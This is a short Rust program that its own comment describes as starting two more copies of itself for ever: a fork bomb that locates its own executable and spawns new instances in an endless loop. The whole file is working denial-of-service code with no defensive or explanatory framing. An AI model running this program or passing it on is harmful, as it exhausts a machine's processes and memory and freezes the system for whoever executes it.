// Each copy starts two more of itself, for ever.
fn main() {
    let me = std::env::current_exe().unwrap();
    loop {
        for _ in 0..2 {
            let _ = std::process::Command::new(&me).spawn();
        }
    }
}
